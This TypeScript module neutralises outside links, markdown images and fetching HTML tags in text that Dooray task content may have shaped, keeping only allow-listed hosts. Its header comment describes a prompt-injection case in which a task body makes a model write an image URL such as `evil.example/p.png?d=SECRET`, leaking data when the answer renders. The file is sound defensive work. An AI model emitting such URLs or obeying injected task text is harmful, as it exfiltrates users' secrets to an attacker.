import { hostMatches } from "./responseUrlAllowed.js";

/**
 * Links and images to the outside, taken out of text that Dooray content may have shaped (docs/architecture.md,
 * "Dooray tools"): a task body can carry `![x](https://evil.example/p.png?d=SECRET)`, and a model that read it can
 * be told to write such a URL itself. Any client that renders the answer or the task would then send the data to
 * that host. Pure: links to the tenant's own Dooray host and the operator's allowed hosts stay; every other link
 * or image becomes plain text without its path and query (`label (evil.example)`), and HTML tags that load or link
 * anything are dropped.
 */
export interface Screened {
  readonly text: string;
  /** How many links or images were neutralised (for the log line; never which). */
  readonly removed: number;
}

/** `http(s)://host…` or `www.host…` (which renderers link too), up to whitespace, a bracket, a quote or `<>`. */
const BARE_URL = /(?:\bhttps?:\/\/|\bwww\.)[^\s()<>"'`\]]+/gi;
/** `![alt](url "title")` and `[label](url "title")`, where url may hold one level of parentheses. */
const MARKDOWN_LINK = /(!?)\[((?:[^\[\]]|\[[^\[\]]*\])*)\]\(\s*<?([^\s()<>]*(?:\([^\s()]*\)[^\s()<>]*)*)>?(?:\s+(?:"[^"]*"|'[^']*'|\([^)]*\)))?\s*\)/g;
/** A reference definition: `[id]: url "title"`. */
const REFERENCE = /^(\s{0,3}\[[^\]]+\]:\s*)<?(\S+?)>?(\s.*)?$/gm;
/** HTML that fetches or links: img, a, iframe, script, link, source, video, audio, object, embed, form, svg, base, meta. */
const HTML_TAG = /<\/?\s*(?:img|a|iframe|script|link|source|video|audio|object|embed|form|svg|image|base|meta|style)\b[^>]*>/gi;

/** The host of a URL-ish string, lower-cased, or undefined when it has none (a relative link). */
function hostOf(url: string): string | undefined {
  const trimmed = url.trim();
  if (/^www\./i.test(trimmed)) return hostOf(`https://${trimmed}`);
  const match = /^(?:[a-z][a-z0-9+.-]*:)?\/\/([^/?#\s]+)/i.exec(trimmed);
  if (!match) return /^[a-z][a-z0-9+.-]*:/i.test(trimmed) ? "" : undefined;
  return match[1]!
    .replace(/^[^@]*@/, "")
    .replace(/:\d+$/, "")
    .toLowerCase();
}

export function screenOutsideLinks(text: string, allowedHosts: readonly string[]): Screened {
  let removed = 0;
  const allowed = (url: string) => {
    // Dooray's own mention and object links open inside Dooray.
    if (/^dooray:/i.test(url.trim())) return true;
    const host = hostOf(url);
    // A relative link, or a dooray:// mention, points nowhere outside.
    if (host === undefined) return true;
    if (host === "") return false;
    return allowedHosts.some((pattern) => hostMatches(host, pattern));
  };
  const plain = (url: string) => {
    const host = hostOf(url);
    return host ? host.replace(/\./g, "[.]") : "링크";
  };
  let out = text.replace(HTML_TAG, () => {
    removed++;
    return "";
  });
  out = out.replace(MARKDOWN_LINK, (whole, bang: string, label: string, url: string) => {
    if (allowed(url)) return whole;
    removed++;
    const words = label.trim();
    return bang ? `[이미지${words ? `: ${words}` : ""} (${plain(url)})]` : `${words || "링크"} (${plain(url)})`;
  });
  out = out.replace(REFERENCE, (whole, head: string, url: string, rest: string | undefined) => {
    if (allowed(url)) return whole;
    removed++;
    return `${head}${plain(url)}${rest ?? ""}`;
  });
  out = out.replace(BARE_URL, (url: string) => {
    if (allowed(url)) return url;
    removed++;
    return plain(url);
  });
  return { text: out, removed };
}

/** A title for the sources list: its outside links screened, then no bracket left to make a link or an image of it. */
export function plainTitle(title: string, allowedHosts: readonly string[]): string {
  // Brackets go, but for the "[.]" that keeps a screened host from being linked.
  return screenOutsideLinks(title, allowedHosts)
    .text.replace(/\[(?!\.\])|(?<!\[\.)\]|[<>]|!(?=\[)/g, "")
    .replace(/\s+/g, " ")
    .trim();
}

/**
 * The hosts links may keep: the tenant's own Dooray host (the responseUrl's, which the worker checked, and the domain
 * our own task and page links are built on) and the operator's.
 */
export function allowedLinkHosts(responseUrl: string, linkDomain: string, configured: readonly string[]): string[] {
  return [new URL(responseUrl).hostname.toLowerCase(), linkDomain.replace(/:\d+$/, "").toLowerCase(), ...configured];
}
